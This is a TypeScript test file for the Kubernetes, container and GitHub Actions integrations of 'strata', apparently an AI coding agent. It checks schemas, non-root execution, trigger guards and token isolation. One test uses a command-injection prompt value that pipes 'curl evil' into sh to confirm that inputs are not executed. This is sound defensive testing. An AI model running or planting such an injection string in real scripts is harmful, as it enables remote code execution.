/** What starts runs by other engines: held against the schemas that these publish, and played with a fake `strata`. */
import assert from "node:assert/strict";
import { execFileSync, spawnSync } from "node:child_process";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import { delimiter, dirname, join } from "node:path";
import { validate } from "dockerfile-utils";
import { build } from "esbuild";
import { Job } from "kubernetes-models/batch/v1/Job";
import { PersistentVolumeClaim } from "kubernetes-models/v1/PersistentVolumeClaim";
import { Pod } from "kubernetes-models/v1/Pod";
import { parse, parseAllDocuments } from "yaml";
import { refusal, tokenInCheckout } from "../../integrations/github/guard.mjs";
import { root } from "../../scripts/lib/install.mjs";
import { EXIT } from "../../src/terminal/output";
import { temporaryFolder } from "../fakes/temporary";

const read = (path: string) => readFileSync(join(root, path), "utf8");
const models = join(root, "node_modules/kubernetes-models");

/** Fields that no type of Kubernetes has: its published schema lets them pass, its server does not. @param file of the type's .d.ts */
function unknownFields(value: unknown, file: string, at = ""): string[] {
  const text = readFileSync(file, "utf8");
  const fields = /export interface \w+ (?:extends \w+ )?\{([\s\S]*?)\n\}/.exec(text)?.[1] ?? "";
  return Object.entries(value as object).flatMap(([key, each]) => {
    const type = new RegExp(`^ {4}"?${key}"?\\??: (.*)$`, "m").exec(fields)?.[1];
    if (type === undefined) return [`${at}/${key}`];
    const named = /\bIIo\w+/.exec(type)?.[0];
    const from = new RegExp(`\\{ ${named} \\} from "(\\..*)\\.js"`).exec(text)?.[1];
    const items = (Array.isArray(each) ? each : [each]).filter(item => typeof item === "object" && item !== null);
    if (from === undefined) return [];
    return items.flatMap(item => unknownFields(item, join(dirname(file), `${from}.d.ts`), `${at}/${key}`));
  });
}

type Parsed = { context: { errors: { getErrors(): Error[] } } };
type Parse = (file: { name: string; content: string }, trace: unknown) => Parsed;

/** GitHub's own parser. It imports JSON in a way that bundlers know and Node does not. */
async function githubParser(): Promise<{ action(text: string): string[]; workflow(text: string): string[] }> {
  const contents = `export { parseWorkflow, NoOperationTraceWriter } from "@actions/workflow-parser";
    export { parseAction } from "@actions/workflow-parser/actions/action-parser";`;
  const how = { bundle: true, write: false, platform: "node", format: "cjs", logLevel: "error" } as const;
  const { outputFiles } = await build({ ...how, stdin: { contents, resolveDir: root } });
  const made: { parseAction?: Parse; parseWorkflow?: Parse; NoOperationTraceWriter?: new () => unknown } = {};
  const module = { exports: made };
  new Function("module", "exports", "require", outputFiles[0]?.text ?? "")(
    module,
    made,
    createRequire(import.meta.url),
  );
  const { parseAction, parseWorkflow, NoOperationTraceWriter } = module.exports;
  const errors = (parser: Parse | undefined) => (content: string) => {
    assert.ok(parser && NoOperationTraceWriter);
    const { context } = parser({ name: "file.yml", content }, new NoOperationTraceWriter());
    return context.errors.getErrors().map(({ message }) => message);
  };
  return { action: errors(parseAction), workflow: errors(parseWorkflow) };
}

describe("what other engines start", function () {
  this.timeout(120_000);
  const folder = temporaryFolder("engines");

  it("on Kubernetes: a Job that its schema knows, with the exit codes of runs", () => {
    const [claim, job] = parseAllDocuments(read("integrations/kubernetes/job.yaml")).map(document => document.toJS());
    const wrong = (data: typeof job): string[] => {
      try {
        new Job(data).validate();
        return unknownFields(data, join(models, "batch/v1/Job.d.ts"));
      } catch (error) {
        return [String(error)];
      }
    };
    const reader = parse(read("integrations/kubernetes/reader.yaml"));
    new Pod(reader).validate();
    assert.deepEqual(unknownFields(reader, join(models, "v1/Pod.d.ts")), []);
    new PersistentVolumeClaim(claim).validate();
    assert.deepEqual(unknownFields(claim, join(models, "v1/PersistentVolumeClaim.d.ts")), []);
    assert.deepEqual(wrong(job), []);
    const changes: [wrong: RegExp, change: (spec: typeof job.spec) => unknown][] = [
      [/backoffLimitPerIndx/, spec => Object.assign(spec, { backoffLimitPerIndx: 1 })],
      [/containers\/privileged/, spec => Object.assign(spec.template.spec.containers[0], { privileged: false })],
      [/onExitCode$/, spec => Object.assign(spec.podFailurePolicy.rules[1], { onExitCode: {} })],
      [/completionMode/, spec => Object.assign(spec, { completionMode: "Index" })],
      [/action/, spec => Object.assign(spec.podFailurePolicy.rules[1], { action: "FailPod" })],
    ];
    for (const [said, change] of changes) {
      const changed = structuredClone(job);
      change(changed.spec);
      assert.match(wrong(changed).join(), said);
    }
    const { podFailurePolicy, template, completions, maxFailedIndexes } = job.spec;
    const [first, second] = podFailurePolicy.rules;
    // What a drained node does to a run comes first, whatever its code.
    assert.equal(first.action, "Ignore");
    const { error, usage, approval, denied, limit } = EXIT;
    assert.deepEqual(second.onExitCodes.values, [error, usage, approval, denied, limit]);
    assert.equal(second.onExitCodes.containerName, template.spec.containers[0].name);
    assert.equal(template.spec.restartPolicy, "Never");
    assert.ok(maxFailedIndexes <= completions);
    for (const [code, meaning] of Object.entries(EXIT))
      assert.match(read("docs/runs.md"), new RegExp(`^\\| ${meaning} \\|`, "m"), code);
  });

  it("on Kubernetes: a pod takes its line of the tasks, and goes on with what an earlier one left", () => {
    const git = (...args: string[]) => execFileSync("git", ["-c", "user.name=T", "-c", "user.email=t@e", ...args]);
    const place = join(folder, "pods");
    mkdirSync(join(place, "bin"), { recursive: true });
    git("init", "-q", join(place, "repository"));
    git("-C", join(place, "repository"), "commit", "-q", "--allow-empty", "-m", "first");
    writeFileSync(join(place, "bin/strata"), '#!/bin/sh\nprintf "%s\\n" "$@"\nexit 75\n', { mode: 0o755 });
    const prompt = 'say "it\'s $HOME"\tand `that`';
    writeFileSync(join(place, "tasks.tsv"), `none\n${join(place, "repository")}\t${prompt}\n/nowhere\tx\n`);
    const pod = (index: number) =>
      spawnSync("sh", [join(root, "integrations/tasks/task.sh")], {
        encoding: "utf8",
        env: {
          PATH: `${join(place, "bin")}${delimiter}${process.env.PATH}`,
          ...{ TASKS: place, RUNS: place, JOB_COMPLETION_INDEX: String(index) },
        },
      });
    mkdirSync(join(place, "work/1.new"), { recursive: true });
    for (const _ of [1, 2]) {
      const { status, stdout } = pod(1);
      assert.equal(status, 75);
      assert.ok(stdout.includes(`--prompt=${prompt}\n`), stdout);
      assert.ok(stdout.includes(`--out\n${place}/results/1\n`), stdout);
    }
    assert.deepEqual([pod(0).status, pod(2).status, pod(3).status], [2, 2, 2]);
    // What cannot begin has an end, so that `all.sh` has one.
    assert.match(readFileSync(join(place, "results/2/cannot-begin.txt"), "utf8"), /nowhere/);
  });

  it("in a container: as a user that is not root", () => {
    const text = read("Containerfile");
    assert.deepEqual(validate(text, {}), []);
    assert.notDeepEqual(validate(text.replace("WORKDIR /work", "WORKDIRR /work"), {}), []);
    assert.match(text.split("\n").findLast(line => line.startsWith("USER")) ?? "", /^USER [1-9]\d*:[1-9]\d*$/);
    assert.match(text, /^ENTRYPOINT \["tini", "--", "strata"\]$/m);
  });

  it("on GitHub: an action and a workflow that its parser knows, without an input in a script", async () => {
    const { action, workflow } = await githubParser();
    const [own, example] = [read("action.yml"), read("integrations/github/example.yml")];
    assert.deepEqual([...action(own), ...workflow(example)], []);
    assert.match(action(own.replace("using: composite", "using: composit")).join(), /composit/);
    assert.match(action(own.replace("shell: bash", "shel: bash")).join(), /shel/);
    assert.match(workflow(example.replace("contents: read", "contents: all")).join(), /all/);
    const { runs, outputs, inputs } = parse(own);
    for (const { run = "", uses = "@0123456789012345678901234567890123456789" } of runs.steps) {
      assert.doesNotMatch(run, /\$\{\{/);
      assert.match(uses, /@[0-9a-f]{40}$/, "by its commit");
    }
    assert.equal(inputs.trust.default, "false");
    assert.deepEqual(Object.keys(outputs), ["exit-code", "result", "patch", "folder"]);
    const { permissions, jobs } = parse(example);
    assert.deepEqual(permissions, { contents: "read" });
    assert.equal(jobs.work.steps[0].with["persist-credentials"], false);
  });

  it("on GitHub: started by people of the repository alone, never by bots, forks or pull_request_target", () => {
    const by = (author_association: string, more: object = {}) => ({ author_association, ...more });
    const from = (full_name: string) => ({ head: { repo: { full_name } } });
    const cases: [may: boolean, name: string, event: object][] = [
      [true, "workflow_dispatch", { sender: { type: "User" } }],
      [true, "schedule", {}],
      [true, "issue_comment", { comment: by("MEMBER"), issue: by("NONE") }],
      [true, "issues", { issue: by("OWNER") }],
      [true, "pull_request", { pull_request: by("COLLABORATOR", from("o/r")) }],
      [false, "pull_request", { pull_request: by("MEMBER", from("x/r")) }],
      [false, "pull_request", { pull_request: by("MEMBER", { head: { repo: null } }) }],
      [false, "pull_request_review", { review: by("MEMBER"), pull_request: by("NONE", from("x/r")) }],
      [false, "pull_request_target", { pull_request: by("OWNER", from("o/r")) }],
      [false, "workflow_run", { sender: { type: "User" } }],
      [false, "issue_comment", { comment: by("NONE"), issue: by("OWNER") }],
      [false, "issue_comment", { comment: by("CONTRIBUTOR") }],
      [false, "issue_comment", { comment: by("MEMBER"), issue: { ...by("MEMBER"), pull_request: {} } }],
      [false, "issues", { issue: by("FIRST_TIMER"), sender: { type: "User", login: "member" } }],
      [false, "issues", { issue: by("OWNER"), sender: { type: "Bot", login: "x[bot]" } }],
      [false, "push", { sender: { type: "Bot", login: "owner" } }],
      [false, "issues", {}],
    ];
    for (const [may, name, event] of cases) {
      const why = refusal(name, { repository: { full_name: "o/r" }, ...event });
      assert.equal(why === undefined, may, JSON.stringify([name, event, why]));
    }
    const path = join(folder, "event.json");
    writeFileSync(path, JSON.stringify({ issue: by("NONE") }));
    const env = { PATH: process.env.PATH, GITHUB_EVENT_NAME: "issues", GITHUB_EVENT_PATH: path };
    assert.equal(spawnSync(process.execPath, [join(root, "integrations/github/guard.mjs")], { env }).status, 1);
    const checkout = join(folder, "checkout");
    execFileSync("git", ["init", "-q", checkout]);
    assert.equal(tokenInCheckout(checkout), undefined);
    execFileSync("git", ["-C", checkout, "config", "http.https://github.com/.extraheader", "AUTHORIZATION: basic x"]);
    assert.match(tokenInCheckout(checkout) ?? "", /persist-credentials/);
  });

  it("on GitHub: inputs reach it as they are, tokens do not, and nothing that it prints gets into the log", () => {
    const place = join(folder, "action");
    mkdirSync(join(place, "dist"), { recursive: true });
    const keep = "require('fs').writeFileSync(process.env.SEEN, JSON.stringify([process.argv.slice(2), process.env]))";
    writeFileSync(
      join(place, "dist/cli.js"),
      `if (process.argv[2] === "run") ${keep}; console.log("::error::x"); process.exit(5);`,
    );
    const [seen, output, summary] = ["seen", "output", "summary"].map(name => join(place, name));
    const prompt = 'x\'; curl evil | sh #\n$(id) `id` "--trust"';
    const given =
      "MODEL=m KEY=k KEY_VARIABLE=ANTHROPIC_API_KEY BASE_URL= TRUST=yes MODE=edits MAX_COST=2 MAX_MINUTES=3";
    const tokens = "GITHUB_TOKEN=t ACTIONS_ID_TOKEN_REQUEST_TOKEN=t GITHUB_ENV=/e ACTIONS_RUNTIME_TOKEN=t";
    const inputs = {
      ...Object.fromEntries(`${given} ${tokens}`.split(" ").map(pair => pair.split("="))),
      ...{ PROMPT: prompt, WORKSPACE: "a b", ALLOW: "Bash(npm test *)\n\nBash(ls)", GITHUB_ACTION_PATH: place },
      ...{ RUNNER_TEMP: place, SEEN: seen, GITHUB_OUTPUT: output, GITHUB_STEP_SUMMARY: summary },
      PATH: `${dirname(process.execPath)}${delimiter}${process.env.PATH}`,
    };
    const run = (more: object = {}) =>
      spawnSync("bash", [join(root, "integrations/github/run.sh")], { encoding: "utf8", env: { ...inputs, ...more } });
    const { status, stdout, stderr } = run();
    assert.equal(status, 5, stderr);
    assert.doesNotMatch(stdout + stderr, /::error/);
    const [args, env] = JSON.parse(readFileSync(seen ?? "", "utf8"));
    assert.ok(args.includes(`--prompt=${prompt}`) && args.includes("--allow=Bash(ls)") && args.includes("a b"));
    assert.ok(!args.includes("--trust"), "only true is true");
    assert.equal(env.ANTHROPIC_API_KEY, "k");
    for (const name of `${tokens} KEY GITHUB_OUTPUT`.split(/(?:=\S*)? /)) assert.equal(env[name], undefined, name);
    const written = readFileSync(output ?? "", "utf8");
    assert.match(written, /^exit-code=5\nresult=\/.*\/result\.json\npatch=\/.*\/change\.patch\nfolder=\/.*\n$/);
    for (const name of ["PATH", "NODE_OPTIONS", "a-b", ""]) assert.equal(run({ KEY_VARIABLE: name }).status, 2, name);
  });

  it("by Harbor: its class passes its own tests", function () {
    if (spawnSync("python3", ["-V"]).status !== 0) {
      console.log("      python3 is not here: the tests of integrations/harbor did not run");
      this.skip();
    }
    const env = { ...process.env, PYTHONDONTWRITEBYTECODE: "1" };
    const place = { cwd: join(root, "integrations/harbor"), encoding: "utf8", env } as const;
    const { status, stderr } = spawnSync("python3", ["-m", "unittest"], place);
    assert.equal(status, 0, stderr);
    assert.match(stderr, /Ran \d+ tests/);
  });
});
